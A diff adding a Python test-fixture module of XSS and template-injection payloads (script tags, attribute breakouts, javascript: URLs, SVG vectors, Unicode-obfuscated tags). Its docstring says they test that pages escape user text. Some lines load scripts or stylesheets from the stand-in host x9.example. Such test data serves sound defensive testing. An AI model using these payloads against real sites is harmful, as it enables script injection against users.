@@ -1,0 +1,158 @@
+"""Texts that would run a script, or leave their place, wherever one of our pages forgot to escape them.
+
+Each is written for these tests. `RAN` is what they set or call when they run; elements that come to life carry
+the class `x9`.
+"""
+
+from typing import Final
+
+RUN: Final = "x9()"
+"""What a payload calls; the test's pages report it."""
+
+TAGS: Final = (
+    "<script class=x9>x9()</script>",
+    "<ScRiPt class=x9>x9()</sCrIpT>",
+    "<script class=x9 src=//x9.example/a.js></script>",
+    "<script class=x9 src=data:text/javascript,x9()></script>",
+    "<script class=x9 type=module>x9()</script>",
+    "<<script class=x9>x9()//<</script>",
+    "<scr<script>ipt class=x9>x9()</scr</script>ipt>",
+    "<img class=x9 src=x onerror=x9()>",
+    "<img class=x9 src=x:y onerror=x9() //",
+    "<img/class=x9/src=x/onerror=x9()>",
+    "<IMG CLASS=x9 SRC=x ONERROR=&#120;&#57;()>",
+    "<img class=x9 src=//x9.example/p.gif>",
+    "<body class=x9 onload=x9()>",
+    "<iframe class=x9 src=javascript:parent.x9()></iframe>",
+    "<iframe class=x9 srcdoc='<script>parent.x9()</script>'></iframe>",
+    "<object class=x9 data=javascript:x9()></object>",
+    "<embed class=x9 src=javascript:x9()>",
+    "<video class=x9><source onerror=x9()></video>",
+    "<audio class=x9 src=x onerror=x9()></audio>",
+    "<details class=x9 open ontoggle=x9()><summary>more</summary></details>",
+    "<input class=x9 autofocus onfocus=x9()>",
+    "<select class=x9 autofocus onfocus=x9()></select>",
+    "<textarea class=x9 autofocus onfocus=x9()></textarea>",
+    "<marquee class=x9 onstart=x9()>tea</marquee>",
+    "<form class=x9 action=javascript:x9()><button>go</button></form>",
+    "<base class=x9 href=//x9.example/>",
+    "<meta class=x9 http-equiv=refresh content='0;url=//x9.example/'>",
+    "<link class=x9 rel=stylesheet href=//x9.example/a.css>",
+    "<template class=x9 shadowrootmode=open><img src=x onerror=x9()></template>",
+    "<noscript><p title='</noscript><img class=x9 src=x onerror=x9()>'>",
+)
+BREAKOUTS: Final = (
+    '"><img class=x9 src=x onerror=x9()>',
+    "'><img class=x9 src=x onerror=x9()>",
+    '" autofocus onfocus=x9() class="x9',
+    "' autofocus onfocus=x9() class='x9",
+    "` onmouseover=x9() class=x9 `",
+    " onpointerenter=x9() class=x9 ",
+    "--><img class=x9 src=x onerror=x9()><!--",
+    "</title><script class=x9>x9()</script>",
+    "</textarea><script class=x9>x9()</script>",
+    "</option></select><img class=x9 src=x onerror=x9()>",
+    "</style><script class=x9>x9()</script>",
+    "</script><script class=x9>x9()</script>",
+    "</SCRIPT ><img class=x9 src=x onerror=x9()>",
+    "<!--<script>",
+    "]]><script class=x9>x9()</script>",
+    "</dialog></template><img class=x9 src=x onerror=x9()>",
+    "</td></tr></table><img class=x9 src=x onerror=x9()>",
+    "&lt;img class=x9 src=x onerror=x9()&gt;",
+    "&#60;img class=x9 src=x onerror=x9()&#62;",
+    "&amp;lt;script&amp;gt;x9()&amp;lt;/script&amp;gt;",
+    '" hx-get="/admin/x9" hx-trigger="load" class="x9',
+    '" hx-on:load="x9()" class="x9',
+    '" data-hx-on::after-request="x9()" class="x9',
+    '" data-href="javascript:x9()" class="x9',
+)
+ADDRESSES: Final = (
+    "javascript:x9()",
+    "JaVaScRiPt:x9()",
+    "java\tscript:x9()",
+    " javascript:x9()",
+    "javascript&colon;x9()",
+    "javascript://tea.example/%0ax9()",
+    "vbscript:x9()",
+    "data:text/html,<script class=x9>x9()</script>",
+    "data:text/html;base64,PHNjcmlwdD54OSgpPC9zY3JpcHQ+",
+    "//x9.example/tea",
+    "https://tea.example@x9.example/",
+    "/\\x9.example",
+    "blob:javascript:x9()",
+    "../../../admin/x9?<script>x9()</script>",
+    "?next=javascript:x9()#<img src=x onerror=x9()>",
+)
+PICTURES: Final = (
+    "<svg class=x9 onload=x9()>",
+    "<svg class=x9><script>x9()</script></svg>",
+    "<svg class=x9><a href=javascript:x9()><text>tea</text></a></svg>",
+    "<svg class=x9><animate onbegin=x9() attributeName=x dur=1s></svg>",
+    "<svg class=x9><set onbegin=x9() attributeName=x></svg>",
+    "<svg class=x9><foreignObject><img src=x onerror=x9()></foreignObject></svg>",
+    "<svg class=x9><use href='data:image/svg+xml,<svg onload=x9()>'/></svg>",
+    "<svg class=x9><style><img src=x onerror=x9()></style></svg>",
+    "<math class=x9><mtext><table><mglyph><style><img src=x onerror=x9()></style></mglyph></table></mtext></math>",
+    "<math class=x9 href=javascript:x9()>tea</math>",
+)
+TEMPLATES: Final = (
+    "{{ 7 * 191 }}",
+    "{{ config }}{{ self.__init__.__globals__ }}",
+    "{% for x in [1] %}x9{% endfor %}",
+    "{# a comment #}",
+    "${7*191}",
+    "#{7*191}",
+    "<%= 7*191 %>",
+    "<?php echo 7*191 ?>",
+    "{{constructor.constructor('x9()')()}}",
+    "[[${7*191}]]",
+    "%(name)s %s %d {0} {name}",
+    "$& $1 $` \\1",
+)
+SCRIPTS: Final = (
+    "';x9();//",
+    '";x9();//',
+    "`;x9();//",
+    "\\';x9();//",
+    "\\u0027;x9();//",
+    "${x9()}",
+    '","x9":"","__proto__":{"x9":1}',
+    '"}</script><script class=x9>x9()</script>{"',
+    "\u2028x9()\u2029x9()",
+    "*/x9()/*",
+    "\\",
+    "<!--<script>x9()</script>-->",
+)
+STYLES: Final = (
+    "x;background:url(//x9.example/b.gif)",
+    "}*{background:url(//x9.example/b.gif)}",
+    "<style class=x9>@import '//x9.example/a.css';</style>",
+    "<div class=x9 style=position:fixed;inset:0;z-index:9999;background:red>",
+    "expression(x9())",
+    "red;}</style><img class=x9 src=x onerror=x9()>",
+)
+LETTERS: Final = (
+    "＜script class=x9＞x9()＜/script＞",
+    "‹img class=x9 src=x onerror=x9()›",
+    "\u202e>tpircs/<)(9x>tpircs<\u202c",
+    "<\u200bscript class=x9>x9()</script>",
+    "<img class=x9 src=x o\u00adnerror=x9()>",
+    "\ufeff<script class=x9>x9()</script>",
+    "+ADw-script+AD4-x9()+ADw-/script+AD4-",
+    "<ımg class=x9 src=x onerror=x9()>",
+    "𝕩𝟡 <scrıpt>x9()</scrıpt> 👩‍👩‍👧",
+    "<scr\x01ipt class=x9>x9()</scr\x01ipt>",
+    "<img class=x9 src=x \x0bonerror=x9()>",
+)
+
+PAYLOADS: Final = (
+    *TAGS,
+    *BREAKOUTS,
+    *ADDRESSES,
+    *PICTURES,
+    *TEMPLATES,
+    *SCRIPTS,
+    *STYLES,
+    *LETTERS,
+)
